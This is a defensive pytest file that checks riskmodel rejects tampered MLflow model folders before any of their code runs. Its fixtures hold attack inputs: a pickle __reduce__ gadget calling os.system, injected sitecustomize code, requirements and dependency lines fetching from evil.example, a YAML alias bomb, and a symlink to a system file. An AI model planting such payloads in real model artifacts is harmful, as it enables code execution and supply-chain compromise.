"""Every file of an MLflow model folder is checked before any of it runs (`riskmodel models verify`,
riskmodel's own loading, and the pyfunc model's load_context)."""

from __future__ import annotations

import os
import pickle
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml
from click.testing import Result
from typer.testing import CliRunner

from riskmodel.cli import app
from riskmodel.errors import ModelFileError
from riskmodel.tracking.pyfunc import requirements
from riskmodel.tracking.verify import ENTRY_FILE
from tests.small_models import new_patients, save_small_model


@pytest.fixture(scope="module")
def logged(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A cox model saved as riskmodel logs it: MLflow's pyfunc from code, our folder as artifact."""
    import mlflow.pyfunc

    tmp = tmp_path_factory.mktemp("logged")
    inner = save_small_model(tmp / "riskmodel")
    mlflow.pyfunc.save_model(
        path=str(tmp / "model"),
        python_model=str(ENTRY_FILE),
        artifacts={"riskmodel": str(inner)},
        pip_requirements=requirements(),
    )
    return tmp / "model"


@pytest.fixture
def copy(logged: Path, tmp_path: Path) -> Path:
    out = tmp_path / "model"
    shutil.copytree(logged, out)
    return out


def run(*args: str) -> Result:
    return CliRunner().invoke(app, list(args))


class Boom:
    """Unpickling this writes a marker file: proof that code from the folder ran."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str, str]]:
        return (os.system, (f"touch {self.marker}",))


def _yaml_edit(path: Path, change: Callable[[dict], None]) -> None:
    data = yaml.safe_load(path.read_text())
    change(data)
    path.write_text(yaml.safe_dump(data))


def _pickle_loader(folder: Path, marker: Path) -> None:
    (folder / "python_model.pkl").write_bytes(pickle.dumps(Boom(marker)))

    def change(d: dict) -> None:
        pf = d["flavors"]["python_function"]
        pf.pop("model_code_path")
        pf["loader_module"] = "mlflow.pyfunc.model"
        pf["python_model"] = "python_model.pkl"

    _yaml_edit(folder / "MLmodel", change)


def _edited_entry(folder: Path, marker: Path) -> None:
    entry = folder / ENTRY_FILE.name
    entry.write_text(entry.read_text() + f"\nimport pathlib\npathlib.Path({str(marker)!r}).touch()\n")


EDITS: dict[str, Callable[[Path, Path], None]] = {
    "entry file edited": _edited_entry,
    "MLmodel rewritten to a pickle loader": _pickle_loader,
    "code paths added": lambda f, m: _yaml_edit(
        f / "MLmodel", lambda d: d["flavors"]["python_function"].update(code="code")
    ),
    "a second flavor": lambda f, m: _yaml_edit(
        f / "MLmodel", lambda d: d["flavors"].update(sklearn={"pickled_model": "m.pkl"})
    ),
    "artifact outside the folder": lambda f, m: _yaml_edit(
        f / "MLmodel", lambda d: d["flavors"]["python_function"]["artifacts"]["riskmodel"].update(path="../x")
    ),
    "requirements with an index URL": lambda f, m: (f / "requirements.txt").write_text(
        "--extra-index-url https://evil.example/simple\nnumpy==2.0\n"
    ),
    "requirements with a foreign package": lambda f, m: (f / "requirements.txt").write_text(
        (f / "requirements.txt").read_text() + "\nevil-package==1.0\n"
    ),
    "conda.yaml with another channel": lambda f, m: _yaml_edit(f / "conda.yaml", lambda d: d.update(channels=["evil"])),
    "python_env.yaml with a build step": lambda f, m: _yaml_edit(
        f / "python_env.yaml", lambda d: d.update(dependencies=["-r requirements.txt", "git+https://evil.example/x"])
    ),
    "an extra file": lambda f, m: (f / "sitecustomize.py").write_text(f"open({str(m)!r}, 'w')\n"),
    "a symlinked member": lambda f, m: (f / "conda.yaml").unlink() or (f / "conda.yaml").symlink_to("/etc/hostname"),
    "a YAML alias bomb in MLmodel": lambda f, m: (f / "MLmodel").write_text(
        "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: [*b, *b, *b, *b, *b, *b]\n"
    ),
    "MLmodel nested deeply": lambda f, m: (f / "MLmodel").write_text("a: " + "[" * 5000 + "]" * 5000 + "\n"),
    "a model file changed": lambda f, m: (f / "artifacts" / "riskmodel" / "cox.json").write_text("{}"),
}


def test_the_folder_riskmodel_writes_passes_and_the_check_is_listed(logged: Path) -> None:
    result = run("models", "verify", str(logged))
    assert result.exit_code == 0, result.stderr
    for checked in ("MLmodel", ENTRY_FILE.name, "requirements.txt", "SHA-256"):
        assert checked in result.stdout
    assert "passed" in result.stdout


@pytest.mark.parametrize("edit", list(EDITS))
def test_an_edited_mlflow_folder_is_refused_by_verify_and_by_score_with_no_code_run(
    copy: Path, tmp_path: Path, edit: str
) -> None:
    marker = tmp_path / "code-ran"
    EDITS[edit](copy, marker)
    patients = new_patients(tmp_path / "new.csv")
    for args in (("models", "verify", str(copy)), ("score", "--model", str(copy), "--patients", str(patients))):
        result = run(*args)
        assert result.exit_code == 2, (edit, result.stdout, result.stderr)
        assert isinstance(result.exception, SystemExit), result.exception  # an exit code, not a crash
        assert "Traceback" not in result.stderr
        lines = result.stderr.strip().splitlines()
        assert lines, result.stdout
        assert all(str(copy) in line for line in lines), result.stderr
    assert not marker.exists()


def test_mlflow_pyfunc_load_refuses_a_folder_whose_environment_was_edited(copy: Path) -> None:
    """MLflow runs riskmodel's entry file; its load_context then checks the rest of the folder."""
    import mlflow.pyfunc

    reqs = copy / "requirements.txt"
    reqs.write_text(reqs.read_text() + "\nevil-package==1.0\n")
    with pytest.raises(ModelFileError, match="evil-package"):
        mlflow.pyfunc.load_model(str(copy))


def test_mlflow_pyfunc_load_of_an_intact_folder_predicts(logged: Path, tmp_path: Path) -> None:
    import mlflow.pyfunc
    import pandas as pd

    frame = pd.read_csv(new_patients(tmp_path / "new.csv"))
    out = mlflow.pyfunc.load_model(str(logged)).predict(frame)
    assert list(out.columns) == ["risk_score", "S_6", "S_12"]
